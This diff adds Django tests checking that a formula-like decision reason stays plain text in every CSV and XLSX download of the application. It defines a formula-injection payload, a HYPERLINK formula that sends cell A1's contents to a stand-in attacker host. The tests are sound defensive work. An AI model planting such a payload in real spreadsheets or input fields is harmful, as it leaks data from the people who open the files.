@@ -9,7 +9,7 @@ import openpyxl
 from django.core.management import CommandError, call_command
 from django.test import TestCase
 from django.urls import reverse
-from django.utils import translation
+from django.utils import timezone, translation
 from pypdf import PdfReader
 
 from profploeg.lib.spreadsheets import MACHINE
@@ -285,3 +285,65 @@ class DownloadPageTests(BaseTestCase):
         self.assertEqual(
             [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)], ["Brugge"]
         )
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+
+
+class FormulaTextTests(BaseTestCase):
+    """Issue 12: text that users type (a decision's reason here) reaches every spreadsheet and
+    CSV download as text, never as a formula a spreadsheet program would run."""
+
+    def setUp(self):
+        application = self.submit(self.lier, day=datetime.date(2021, 8, 1))
+        self.decide(application, "inadmissible", reason=HOSTILE)
+        self.client.force_login(self.staff)
+
+    def hostile_cells(self, response) -> list:
+        """Every value of the download that carries the hostile text, as the program reads it."""
+        if "spreadsheetml" in response["Content-Type"]:
+            book = openpyxl.load_workbook(io.BytesIO(response.content))
+            return [
+                (cell.value, cell.data_type)
+                for sheet in book.worksheets
+                for row in sheet.iter_rows()
+                for cell in row
+                if isinstance(cell.value, str) and "evil.example" in cell.value
+            ]
+        text = response.content.decode("utf-8-sig")
+        delimiter = ";" if ";" in text.splitlines()[0] else ","
+        return [
+            (value, "csv")
+            for row in csv.reader(io.StringIO(text), delimiter=delimiter)
+            for value in row
+            if "evil.example" in value
+        ]
+
+    def test_a_reason_that_looks_like_a_formula_is_text_in_every_download(self):
+        status = reverse("reports:status", args=[self.programme.pk])
+        downloads = {
+            "status csv": (status, {"format": "csv"}),
+            "status csv for programs": (status, {"format": "csv", "dialect": "machine"}),
+            "status xlsx": (status, {"format": "xlsx"}),
+            "annex xlsx": (status, {"annex": "1", "format": "xlsx"}),
+            "annex csv": (status, {"annex": "1", "format": "csv"}),
+            "api csv": (
+                f"/api/programmes/{self.programme.pk}/status",
+                {"format": "csv", "dialect": "machine"},
+            ),
+            "history workbook": (reverse("history:export", args=[self.programme.pk]), {}),
+        }
+        for name, (url, params) in downloads.items():
+            with self.subTest(download=name):
+                # The decision is taken today.
+                as_of = timezone.localdate().isoformat()
+                response = self.client.get(url, {"as_of": as_of, **params})
+                self.assertEqual(response.status_code, 200)
+                cells = self.hostile_cells(response)
+                self.assertTrue(cells)
+                for value, kind in cells:
+                    # A text cell of a workbook is never run; a CSV has no types: a quote.
+                    if kind == "csv":
+                        self.assertTrue(value.startswith("'="), value)
+                    else:
+                        self.assertEqual((value, kind), (HOSTILE, "s"))
